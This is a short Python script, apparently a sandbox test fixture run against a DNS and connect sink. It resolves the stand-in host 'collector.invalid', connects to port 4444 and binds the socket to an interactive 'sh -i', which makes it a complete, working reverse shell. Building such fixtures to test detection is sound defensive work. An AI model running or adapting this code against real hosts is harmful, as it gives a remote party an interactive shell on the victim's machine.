# A reverse shell to a name: resolves collector.invalid (the DNS sink
# answers a loopback address), connects to port 4444 there, hands the
# socket to sh -i as its stdin/stdout/stderr.  Without a connect sink the
# connect is refused and no shell starts.
import os
import socket
import sys

ip = socket.getaddrinfo("collector.invalid", 4444, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
s = socket.socket()
try:
    s.connect((ip, 4444))
except OSError as e:
    print("connect", ip, e.strerror, flush=True)
    sys.exit(0)
print("connected", ip, flush=True)
s.sendall(b"hello from the reverse shell\n")
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execvp("sh", ["sh", "-i"])
